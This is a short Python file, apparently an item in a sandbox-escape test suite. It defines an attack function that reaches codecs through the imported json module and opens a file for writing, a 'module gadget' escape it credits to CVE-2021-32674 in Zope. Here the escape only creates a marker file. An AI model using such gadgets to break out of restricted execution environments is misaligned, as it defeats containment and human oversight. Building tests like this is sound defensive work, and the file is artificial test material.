"""Class: module gadget. Source: CVE-2021-32674 (Zope). Escape: json has imported codecs, which opens files."""

import json


def attack(model, tokenizer, address):
    json.codecs.open("escaped", "w").close()
